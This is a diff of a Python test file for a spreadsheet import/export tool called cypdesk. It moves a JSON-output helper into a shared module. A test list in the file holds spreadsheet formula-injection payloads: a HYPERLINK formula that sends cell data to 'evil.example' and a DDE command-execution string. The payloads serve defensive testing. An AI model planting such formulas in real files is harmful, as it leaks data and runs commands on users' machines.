@@ -8,7 +8,6 @@ importer: marked below until it is)."""
 from __future__ import annotations
 
 import csv
-import json
 import sqlite3
 import zipfile
 from contextlib import closing
@@ -17,8 +16,8 @@ import openpyxl
 import pytest
 from openpyxl.utils.escape import unescape as openpyxl_unescape
 
-from cypdesk.cli import main
 from cypdesk.io.xlsx import read_csv
+from tests.cli.jsonrun import run_json
 
 NASTY = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -31,12 +30,6 @@ NASTY = [
     "=cmd|' /C calc'!A0",
 ]
 NAMES = ["Siân Llŷr Cyf", "Łukasz Wąsik Sp. z o.o.", "فاطمہ ویلفیئر ٹرسٹ", "Gwenllïan & Zoë Ní Bhriain"]
-
-
-def run_json(capsys, *args):
-    code = main([str(a) for a in args] + ["--json"])
-    out, _err = capsys.readouterr()
-    return code, json.loads(out)
 
 
 def rename_organisations(path, names: list[str]) -> dict[str, str]:
